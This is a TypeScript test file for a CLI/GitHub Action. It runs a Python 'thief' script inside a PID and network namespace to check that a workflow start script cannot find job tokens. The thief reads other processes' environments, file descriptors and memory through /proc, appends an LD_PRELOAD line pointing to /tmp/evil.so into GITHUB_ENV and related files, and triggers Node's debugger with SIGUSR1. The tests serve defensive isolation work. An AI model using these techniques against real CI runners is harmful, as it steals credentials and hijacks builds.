import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, closeSync, mkdirSync, openSync, readFileSync, readSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cliBundle, plainEnvironment } from './support/cli.ts';
import { type Ended, runProgram } from './support/program.ts';
import { copyExamples, inScratch, projectRoot } from './support/scratch.ts';

/**
 * Looks for a secret wherever a process of the same user can look: in the environment, the arguments, the descriptors and
 * the memory of every process, and behind the debugger that Node opens at SIGUSR1. Appends to the files by which a step
 * speaks to its runner. Writes what it found and where. It works in a PID and a network namespace of its own.
 */
const thief = `
import os, re, signal, sys, time, urllib.request
secret = ('tok3n' + '-of-the-job').encode()
found = open(sys.argv[1], 'a')
def say(*words): print(*words, file=found, flush=True)
def read(path):
    try:
        with open(path, 'rb') as file: return file.read()
    except OSError: return b''
def name(pid):
    command = read(f'/proc/{pid}/cmdline').replace(b'\\0', b' ').decode()
    return 'finder' if '--find-out' in command else 'supervisor' if 'supervisor' in command else \\
        'node' if re.search('dist/(cli|action)/index', command) else 'script'
others = [int(pid) for pid in os.listdir('/proc') if pid.isdigit() and int(pid) != os.getpid()]
assert os.getppid() < 1000 and 1 in others and len(others) < 30, 'not in a namespace of its own'
def memory(pid):
    count = 0
    try:
        with open(f'/proc/{pid}/mem', 'rb', 0) as file:
            for line in open(f'/proc/{pid}/maps'):
                area = re.match(r'(\\w+)-(\\w+) r', line)
                if area is None or '[v' in line: continue
                at, end = int(area[1], 16), int(area[2], 16)
                while at < end:
                    try:
                        file.seek(at)
                        count += file.read(min(end - at, 1 << 22)).count(secret)
                    except OSError: pass
                    at += 1 << 22
    except OSError: return
    say('looked into the memory of', name(pid))
    if count > 0: say('FOUND in the memory of', name(pid))
for pid in others:
    environment = read(f'/proc/{pid}/environ')
    if b'PATH=' in environment: say('looked at the environment of', name(pid))
    if secret in environment: say('FOUND in the environment of', name(pid))
    if secret in read(f'/proc/{pid}/cmdline'): say('FOUND in the arguments of', name(pid))
    try: held = os.listdir(f'/proc/{pid}/fd')
    except OSError: held = []
    for one in held:
        path = f'/proc/{pid}/fd/{one}'
        try: kind = os.readlink(path)
        except OSError: continue
        if kind.startswith(('/dev', 'socket', 'anon')) or kind.startswith('pipe') and one != '3': continue
        try:
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            if secret in os.read(handle, 65536): say('FOUND behind a descriptor of', name(pid))
            os.close(handle)
        except OSError: pass
    for variable, path in re.findall(rb'(GITHUB_(?:ENV|PATH|OUTPUT|STATE))=([^\\0]+)', environment):
        with open(path, 'a') as file: file.write('LD_PRELOAD=/tmp/evil.so\\n')
for pid in others: memory(pid)
for pid in others:
    if name(pid) not in ('finder', 'node'): continue
    os.kill(pid, signal.SIGUSR1)
    time.sleep(1)
    try:
        urllib.request.urlopen('http://127.0.0.1:9229/json', timeout=5).read()
        say('FOUND the debugger of', name(pid))
    except OSError: say('no debugger of', name(pid))
`;

/** hello-world, whose start script lets the thief look around before it serves; gives the file that it writes. */
function withThief(scratch: string): { readonly root: string; readonly found: string } {
  const root = copyExamples(scratch, ['hello-world']);
  const [program, found] = [join(scratch, 'thief.py'), join(scratch, 'found')];
  writeFileSync(program, thief);
  writeFileSync(found, '');
  const path = join(root, 'workflows/hello-world/start.sh');
  const serving = 'mkdir -p site\n';
  const text = readFileSync(path, 'utf8');
  expect(text).toContain(serving);
  writeFileSync(path, text.replace(serving, `${serving}python3 '${program}' '${found}'\n`));
  for (const file of [scratch, found, join(scratch, 'tmp')]) {
    if (file.endsWith('tmp')) mkdirSync(file);
    chmodSync(file, 0o777);
  }
  return { root, found };
}

/** Somebody without rights of root; where this is nobody who could become another, the user itself. */
const isRoot = process.getuid?.() === 0;
const asOther = isRoot ? 'setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all' : '';

/** Runs a program as the first process of a namespace of its own, in an environment full of secrets. */
function amongSecrets(
  scratch: string,
  root: string,
  program: string,
  more: Readonly<Record<string, string>>,
): Promise<Ended> {
  const secret = 'tok3n-of-the-job';
  return runProgram({
    command: 'unshare',
    args: [
      ...['--pid', '--fork', '--mount-proc', '--net', ...(isRoot ? [] : ['--map-root-user'])],
      ...['sh', '-c', `ip link set lo up; exec ${program}`],
    ],
    cwd: root,
    env: {
      ...plainEnvironment(join(scratch, 'home')),
      TMPDIR: join(scratch, 'tmp'),
      GITHUB_TOKEN: secret,
      ACTIONS_RUNTIME_TOKEN: secret,
      INPUT_TOKEN: secret,
      NPM_TOKEN: secret,
      AWS_SECRET_ACCESS_KEY: secret,
      ...more,
    },
  });
}

/** The places where the thief could look, and those where it found the secret. */
function lootIn(file: string) {
  const lines = readFileSync(file, 'utf8').split('\n');
  return {
    looked: lines.filter((line) => /^(looked|no) /.test(line)),
    found: lines.filter((line) => /^FOUND/.test(line)),
  };
}

describe.each([['root', ''], ...(process.getuid?.() === 0 ? [['another user', asOther]] : [])])(
  'a start script run by %s that looks for the token',
  (_who, user) => {
    test('of the action finds it nowhere but in the memory of the process that publishes', async () => {
      await inScratch(async (scratch) => {
        const { root, found } = withThief(scratch);
        const files = Object.fromEntries(
          ['ENV', 'PATH', 'OUTPUT', 'STATE'].map((name) => [
            `GITHUB_${name}`,
            join(scratch, `github-${name}`),
          ]),
        );
        for (const file of Object.values(files)) {
          writeFileSync(file, '');
          chmodSync(file, 0o666);
        }
        const ended = await amongSecrets(
          scratch,
          root,
          `${user} bash --noprofile --norc -eo pipefail -c 'exec bash "${projectRoot}/integrations/run-action.sh"'`,
          {
            ...files,
            GITHUB_ACTIONS: 'true',
            GITHUB_WORKSPACE: root,
            GITHUB_EVENT_NAME: 'push',
            RUNNER_TEMP: join(scratch, 'tmp'),
            INPUT_COMMAND: 'run',
          },
        );
        expect([ended.stdout, ended.status]).toEqual([expect.stringContaining('1 passed'), 0]);
        const loot = lootIn(found);
        expect(loot.looked).toEqual(
          expect.arrayContaining([
            'looked at the environment of node',
            'looked at the environment of finder',
            'no debugger of node',
            'no debugger of finder',
          ]),
        );
        expect(loot.found.filter((line) => line !== 'FOUND in the memory of node')).toEqual([]);
        expect(ended.stdout).toContain(
          'a script changed GITHUB_ENV, GITHUB_PATH, GITHUB_OUTPUT, GITHUB_STATE',
        );
        for (const file of Object.values(files)) expect(readFileSync(file, 'utf8')).not.toContain('evil');
      });
    });
  },
);

test('a start script finds no secret of the command line, and opens no debugger', async () => {
  await inScratch(async (scratch) => {
    const { root, found } = withThief(scratch);
    const ended = await amongSecrets(scratch, root, `${asOther} ${process.execPath} ${cliBundle} run`, {});
    expect([ended.stdout, ended.status]).toEqual([expect.stringContaining('1 passed'), 0]);
    const loot = lootIn(found);
    expect(loot.looked).toEqual(
      expect.arrayContaining(['looked at the environment of node', 'no debugger of node']),
    );
    expect(loot.found).toEqual([]);
  });
});

/** Whether a text stands anywhere in the memory of a process of ours, as the thief looks. */
function standsInMemory(pid: number, text: string): boolean {
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  const part = Buffer.alloc(1 << 22);
  try {
    for (const [, from = '', to = ''] of readFileSync(`/proc/${pid}/maps`, 'utf8').matchAll(
      /^(\w+)-(\w+) r(?!.*\[v)/gm,
    )) {
      const end = Number.parseInt(to, 16);
      for (let at = Number.parseInt(from, 16); at < end; at += part.length) {
        let length = 0;
        try {
          length = readSync(memory, part, 0, Math.min(part.length, end - at), at);
        } catch {
          // mapped, but nothing stands there
        }
        if (part.subarray(0, length).includes(text)) return true;
      }
    }
    return false;
  } finally {
    closeSync(memory);
  }
}

test('a program that has only just started has forgotten its secrets already', async () => {
  const secret = 'tok3n-of-the-job';
  const program = spawn(process.execPath, [cliBundle, 'lsp'], {
    env: { ...process.env, GITHUB_TOKEN: secret, HARMLESS: 'pl4in-of-the-job' },
  });
  const request = JSON.stringify({
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: { capabilities: {} },
  });
  program.stdin.write(`Content-Length: ${request.length}\r\n\r\n${request}`);
  await once(program.stdout, 'data');
  const pid = program.pid ?? 0;
  const found = [standsInMemory(pid, secret), standsInMemory(pid, 'pl4in-of-the-job')];
  program.kill();
  await once(program, 'exit');
  expect(found).toEqual([false, true]);
});
